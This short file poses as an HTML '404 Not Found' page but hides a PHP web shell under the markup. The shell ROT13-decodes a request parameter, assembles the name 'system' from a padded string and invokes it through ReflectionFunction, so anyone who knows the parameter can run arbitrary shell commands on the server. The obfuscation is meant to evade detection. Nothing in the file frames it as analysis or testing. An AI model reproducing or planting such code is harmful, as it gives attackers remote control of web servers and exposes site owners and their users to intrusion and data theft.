<html><body><h1>404 Not Found</h1></body></html>
<?php
$req = str_rot13($_REQUEST['data']);
$r = new ReflectionFunction(substr('xxsystemyy', 2, 6));
$r->invoke($req);
?>
